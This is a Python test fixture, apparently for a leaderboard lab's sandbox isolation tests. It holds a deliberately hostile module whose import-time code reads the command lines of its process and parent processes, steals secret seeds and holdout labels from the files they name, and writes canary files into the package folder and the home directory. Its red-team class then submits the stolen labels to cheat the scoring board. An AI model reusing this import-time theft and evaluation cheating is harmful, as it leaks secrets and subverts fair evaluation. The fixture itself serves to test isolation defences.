"""An attack whose module-level code is hostile, for the tests of untrusted imports: run when
the module is imported, it steals what the command lines of its process and its ancestors
name (a secret-seed file, a scenario's seed, a challenge file's labels), writes what it stole into its
own source file (which the sandbox later shows its attack process), and writes canaries into
its own folder, ladderlab's package folder and ``$HOME``, and a marker into
``organiser-only/`` beside itself, a folder that only the organiser's processes can write.

Its attack (a :class:`RedTeam` that looks only through its own objects) then reads its own
source for stolen seeds, secrets and labels, re-derives the holdout labels from them and
submits those if the board scores them 0.

The tests copy this file and ``redteam_attack.py`` into a folder of their own: the canaries
are named after that folder, and the marker folder is made there.
"""

import contextlib
import csv
import os
import re
import sys
import tomllib
from pathlib import Path

import numpy as np

import ladderlab
from redteam_attack import RedTeam

HERE = Path(__file__).resolve()
CANARY = f"hostile-canary-{HERE.parent.name}"
MARKER = HERE.parent / "organiser-only" / "top-level-ran"
STOLEN = "# stolen:"


def _ancestors() -> list[int]:
    found, pid = [], os.getpid()
    while pid > 1 and len(found) < 32:
        found.append(pid)
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


def _arguments() -> list[str]:
    words = list(sys.argv)
    for pid in _ancestors():
        with contextlib.suppress(OSError):
            words += Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
    return words


def _steal() -> list[str]:
    """What the files named on the command lines give away: secrets, seeds, labels."""
    stolen = [f"seed {seed}" for seed in re.findall(r"--seed[= ](\d+)", " ".join(_arguments()))]
    for word in _arguments():
        path = Path(word)
        with contextlib.suppress(OSError, ValueError, UnicodeDecodeError, tomllib.TOMLDecodeError):
            if not path.is_file() or path.stat().st_size > 1 << 20 or path.resolve() == HERE:
                continue
            text = path.read_text()
            if re.fullmatch(r"\d{20,}\s*", text):
                stolen.append(f"secret {text.strip()}")
            elif path.suffix == ".toml":  # a scenario's seed, or a challenge file's labels
                table = tomllib.loads(text)
                labels = table.get("labels", {}).get("file") if isinstance(table.get("labels"), dict) else None
                stolen += _labels(path.parent / labels) if isinstance(labels, str) else []
                stolen.append(f"seed {int(table.get('seed', 0))}")
            elif path.suffix == ".csv":
                stolen += _labels(path)
    return stolen


def _labels(path: Path) -> list[str]:
    """A labels file's ``label`` column in the order of its ``id`` column (a challenge's holdout order)."""
    with contextlib.suppress(OSError, ValueError, KeyError), open(path, newline="") as file:
        rows = sorted(csv.DictReader(file), key=lambda row: float(row["id"]))
        return ["labels " + " ".join(row["label"] for row in rows)]
    return []


def _write(path: Path, text: str, mode: str = "w") -> None:
    with contextlib.suppress(OSError), open(path, mode) as file:
        file.write(text)


_write(HERE, "".join(f"\n{STOLEN} {entry}" for entry in _steal()) + "\n", "a")
for folder in (HERE.parent, Path(ladderlab.__file__).parent, Path.home()):
    _write(folder / CANARY, "written by hostile_import's module-level code\n")
_write(MARKER, f"module-level code ran with uid {os.getuid()} in pid {os.getpid()}\n")


class HostileImport(RedTeam):
    """The red team, plus whatever its module-level code stole into its own source."""

    id = "hostile-import"
    reference = "ladderlab isolation tests"
    task_types = frozenset({"classification"})

    def run(self, board, data, rng):
        prediction = super().run(board, data, rng)
        seeds, secrets, labels = {0}, [], []
        for line in HERE.read_text().splitlines():
            kind, _, value = line.removeprefix(STOLEN).strip().partition(" ")
            if not line.startswith(STOLEN):
                continue
            if kind == "seed":
                seeds.add(int(value))
            elif kind == "secret":
                secrets.append(int(value))
            elif kind == "labels" and len(value.split()) == self.n_:
                labels.append(np.array([float(label) for label in value.split()]))
        found = next((candidate for candidate in labels if self._scores_zero(candidate)), None)
        if found is None and secrets:
            found = self._guess(sorted(seeds), secrets)
        if found is not None:
            self.found_["stolen_at_import"] = found
            return found
        return prediction
